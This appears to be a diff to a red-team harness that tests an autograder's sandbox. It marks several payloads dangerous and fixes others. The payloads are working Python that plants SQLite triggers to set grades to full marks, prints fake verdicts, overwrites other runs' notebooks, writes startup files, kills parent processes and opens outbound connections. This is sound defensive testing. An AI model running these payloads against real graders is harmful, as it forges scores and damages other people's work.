@@ -26,8 +26,9 @@ GRADED = ("test_heaviside", "test_sign", "test_tlu", "test_logic_gates")  # 2, 2
 FAMILIES = ("forged score", "read secrets", "harm others", "no limits")
 
 # Answers that are wrong but keep every test cell free of errors (public checks only print at
-# grading time): on their own they score 0, so any point an attack gets is forged.
-STUBS = ("heaviside = sign = tlu = lambda *args, **kwargs: 0\n"
+# grading time): on their own they score 0 (a stub returning 0 would pass the cases that expect
+# 0), so any point an attack gets is forged.
+STUBS = ("heaviside = sign = tlu = lambda *args, **kwargs: None\n"
          "AND_GATE = OR_GATE = NOT_GATE = None\n")
 
 # Where the grading command lives: the kernel's cwd, the checkout `course` comes from, and the
@@ -92,7 +93,9 @@ class Attack:
     stubs: bool = False  # prepend STUBS (error-free wrong answers)
     prelude: str = ""  # helper code prepended (GRADER_PATHS, EVERYWHERE, BUILTINS)
     limit: str | None = None  # words scores.csv must use (one of, "|"-separated)
-    dangerous: bool = False  # harms the machine if the sandbox does not hold
+    # Harms the machine, or files of the checkout and of other runs, if the sandbox does not
+    # hold: run only once a probe has shown that the kernel is sandboxed.
+    dangerous: bool = False
 
     def source(self, mark: str, port: int) -> str:
         text = self.prelude + (STUBS if self.stubs else "") + self.payload
@@ -256,11 +259,11 @@ FORGED = [
     _a("sqlite_trigger", "forged score",
        "plant triggers in every gradebook.db it can find: grades become full marks",
        "import sqlite3\n"
-       "_sql = '''CREATE TRIGGER IF NOT EXISTS forge_$mark_{0} AFTER {0} ON grade BEGIN\n"
+       "_sql = '''CREATE TRIGGER IF NOT EXISTS forge_${mark}_{0} AFTER {0} ON grade BEGIN\n"
        "  UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = "
        "NEW.cell_id)\n"
        "  WHERE id = NEW.id AND NEW.cell_id IN (SELECT id FROM grade_cells); END'''\n"
-       "for _db in {f for p in _up(_grader_paths()) for f in glob.glob(p + '/**/gradebook.db',"
+       "for _db in {f for p in _grader_paths() for f in glob.glob(p + '/**/gradebook.db',"
        " recursive=True)}:\n"
        "    try:\n"
        "        with sqlite3.connect(_db, timeout=1) as _con:\n"
@@ -268,7 +271,7 @@ FORGED = [
        "                _con.execute(_sql.format(_event))\n"
        "        print('trigger planted in', _db)\n"
        "    except Exception as e:\n"
-       "        print(_db, e)\n", stubs=True, prelude=GRADER_PATHS),
+       "        print(_db, e)\n", stubs=True, prelude=GRADER_PATHS, dangerous=True),
     _a("fake_verdict_stdout", "forged score", "print the verdict lines of full marks",
        "def heaviside(*a, **k):\n"
        "    print('Hidden tests for heaviside: 13 of 13 cases passed -> 2 of 2 points.')\n"
@@ -342,7 +345,7 @@ HARM = [
        "            open(_nb, 'w').write('{\"cells\": []}  $mark')\n"
        "            print('overwrote', _nb)\n"
        "        except OSError as e:\n"
-       "            print(_nb, e)\n", prelude=GRADER_PATHS),
+       "            print(_nb, e)\n", prelude=GRADER_PATHS, dangerous=True),
     _a("edit_checkout", "harm others",
        "edit the checkout (hidden/scoring.py, sitecustomize.py) and the grader's IPython startup",
        "_homes = {os.path.expanduser('~')}\n"
@@ -370,7 +373,7 @@ HARM = [
        "        open(_dir + '/00_attack_$mark.py', 'w').write('# attack $mark\\n')\n"
        "        print('startup file in', _dir)\n"
        "    except OSError as e:\n"
-       "        print(_dir, e)\n", prelude=GRADER_PATHS),
+       "        print(_dir, e)\n", prelude=GRADER_PATHS, dangerous=True),
     _a("write_out", "harm others", "append code to OUT/nbgrader_config.py, rewrite OUT's grades",
        "import sqlite3\n"
        "for _p in _up(_grader_paths()):\n"
@@ -383,7 +386,7 @@ HARM = [
        "                _con.execute('UPDATE grade SET auto_score = 99')\n"
        "            print('wrote', _p)\n"
        "        except Exception as e:\n"
-       "            print(_p, e)\n", prelude=GRADER_PATHS),
+       "            print(_p, e)\n", prelude=GRADER_PATHS, dangerous=True),
     _a("kill_parent", "harm others", "kill the kernel's parent and grandparents (nbgrader)",
        "import signal\n"
        "_pid = os.getppid()\n"
@@ -438,7 +441,7 @@ HARM = [
        "            _c.sendall(b'attack $mark\\n')\n"
        "            print('CONNECTED', _host, _port)\n"
        "    except OSError as e:\n"
-       "        print(_host, _port, e)\n"),
+       "        print(_host, _port, e)\n", dangerous=True),
 ]
 
 LIMITS = [
